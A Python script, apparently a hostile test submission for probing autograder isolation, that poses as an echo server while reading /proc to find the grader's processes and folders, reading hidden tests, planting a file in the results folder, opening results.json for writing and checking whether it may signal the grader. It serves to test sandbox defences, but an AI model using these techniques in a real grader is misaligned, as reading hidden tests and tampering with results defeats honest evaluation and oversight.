# Hostile: uses the grader's rights. It finds the course's hidden tests, the grader's working
# folders and its processes through /proc (its ancestors' command lines and working folders), then
# reads a hidden test, plants a file where the grader writes its results and opens results.json
# for writing, and checks it may signal the grader (its ancestor; else a pid started just before
# its own) or any process outside its own session (signal 0: the kernel's permission check for
# a real signal, which is then not sent; a real SIGKILL would end the grading it is testing).
# It serves echo either way, and prints what it managed.
import glob, os, socket, threading

def handle(conn):
    with conn:
        try:
            while data := conn.recv(65536):
                conn.sendall(data)
        except OSError:
            pass

def serve():
    server = socket.create_server(("0.0.0.0", int(os.environ["PORT"])))
    while True:
        conn, _ = server.accept()
        threading.Thread(target=handle, args=(conn,), daemon=True).start()

def read(path):
    with open(path, "rb") as f:
        return f.read()

def ancestors():
    found, pid = [], os.getppid()
    while pid > 1:
        found.append(pid)
        try:
            pid = int(read(f"/proc/{pid}/stat").rpartition(b")")[2].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return found

# Paths its ancestors (the grader among them) name: their command lines and working folders.
paths, folders = set(), set()
for pid in ancestors():
    try:
        words = read(f"/proc/{pid}/cmdline").split(b"\0")
    except OSError:
        continue
    for word in words:
        text = word.decode(errors="replace")
        for part in text.replace('"', " ").replace(",", " ").split():
            if part.startswith("/"):
                paths.add(part)
for pid in ancestors():
    try:
        folders.add(os.readlink(f"/proc/{pid}/cwd"))
    except OSError:
        pass

hidden = set()
for pattern in ("/autograder/source/*/assignments/echo/hidden/*.py", "/*/assignments/echo/hidden/*.py",
                "/*/*/assignments/echo/hidden/*.py", "/*/*/*/assignments/echo/hidden/*.py"):
    hidden.update(p for p in glob.glob(pattern) if not p.startswith("/proc/"))  # where courses
    # are kept, when no ancestor names one
for path in paths:
    parts = path.split("/")
    for n in range(len(parts), 1, -1):  # ancestors of every path: the course is one of them
        top = "/".join(parts[:n])
        hidden.update(glob.glob(top + "/assignments/echo/hidden/*.py"))
        hidden.update(glob.glob(top + "/hidden/test_*.py"))

done, tried = [], {"hidden": 0, "folders": 0, "processes": 0}
for path in sorted(hidden):
    tried["hidden"] += 1
    try:
        read(path)
        done.append(f"read {path}")
    except OSError:
        pass
for folder in sorted(folders):
    if not (os.path.basename(folder).startswith("grader-run-") or
            os.path.exists(os.path.join(folder, "results.json"))):
        continue
    tried["folders"] += 1
    planted = os.path.join(folder, "planted-by-the-student")
    try:
        os.close(os.open(planted, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644))
        os.unlink(planted)
        done.append(f"wrote in {folder}")
    except OSError:
        pass
    try:  # opened for appending, nothing written: the right, without changing the results
        os.close(os.open(os.path.join(folder, "results.json"), os.O_WRONLY | os.O_APPEND))
        done.append(f"opened {folder}/results.json for writing")
    except OSError:
        pass
mine = os.getsid(0)
others = set(ancestors()) | {int(p[6:]) for p in glob.glob("/proc/[0-9]*")}
others |= set(range(max(2, os.getpid() - 3000), os.getpid()))  # the grader started just before
for pid in sorted(others):  # the grader, and any process not of its own session
    try:
        if os.getsid(pid) == mine:
            continue  # its own (in docker, the `timeout` that starts it)
    except OSError:
        continue
    tried["processes"] += 1
    try:
        os.kill(pid, 0)
        done.append(f"may signal {pid}")
    except OSError:
        pass
print("tried:", ", ".join(f"{n} {what}" for what, n in tried.items()), flush=True)
print("rights:", "; ".join(done[:6]) + (f" (and {len(done) - 6} more)" if len(done) > 6 else "")
      if done else "none of the grader's", flush=True)
serve()
